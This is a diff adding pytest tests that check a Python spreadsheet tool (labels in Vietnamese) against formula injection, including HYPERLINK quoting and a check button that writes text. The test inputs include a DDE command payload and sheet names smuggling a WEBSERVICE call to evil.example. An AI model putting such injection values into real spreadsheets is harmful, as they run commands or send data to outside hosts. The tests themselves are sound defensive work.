@@ -359,3 +359,39 @@ def test_email_bodies_keep_payloads_plain_text(tmp_path: Path) -> None:
     assert "=cmd|' /C calc'!A0" in plain
     assert "<b>Bấm</b>" not in html_part and "&lt;b&gt;Bấm&lt;/b&gt;" in html_part
     assert 'href="http://evil.example' not in html_part
+
+
+# ---------------------------------------------------------------- xlwings writer (buttons, server)
+
+@pytest.mark.parametrize("value,bad", PAYLOADS)
+def test_xlwings_writer_quotes_formula_like_text(value: str, bad: bool) -> None:
+    from cchc_xl.xl.book_io import excel_value
+
+    assert excel_value(value) == "'" + value          # Excel stores "'..." as text, apostrophe hidden
+
+
+@pytest.mark.parametrize("sheet", ['x"),WEBSERVICE("http://evil.example/', "Phân công", "a'b", 'q"q'])
+def test_findings_link_is_one_string_literal(sheet: str) -> None:
+    from cchc_xl.xl.book_io import _link
+
+    link = _link(sheet, "C7")
+    assert re.fullmatch(r'=HYPERLINK\("(?:[^"]|"")*","Mở"\)', link), link
+    assert _link(sheet, 'A1","x") & WEBSERVICE("http://evil.example') is None
+
+
+def test_check_button_on_a_json_book_writes_text_not_formulas(hostile_master, monkeypatch) -> None:
+    from cchc_xl.xl import buttons
+    from cchc_xl.xl.book_io import book_payload_from_xlsx, enable_remote_engine, open_json_book
+
+    monkeypatch.setenv("XLWINGS_LICENSE_KEY", "noncommercial")
+    enable_remote_engine()
+    path, _ = hostile_master
+    book = open_json_book(book_payload_from_xlsx(path))
+    buttons.kiem_tra(book)
+    values = [v for a in book.json()["actions"] if a["func"] == "setValues"
+              for row in a["values"] for v in row if isinstance(v, str)]
+    assert any("formula" in v or "công thức" in v for v in values)            # the payloads were flagged...
+    for v in values:
+        if v.startswith("="):
+            assert re.fullmatch(r'=HYPERLINK\("#(?:[^"]|"")*","Mở"\)', v), v  # ...and only our links are formulas
+        assert not starts_like_formula(v) or v.startswith(("'", "=HYPERLINK(\"#")), v
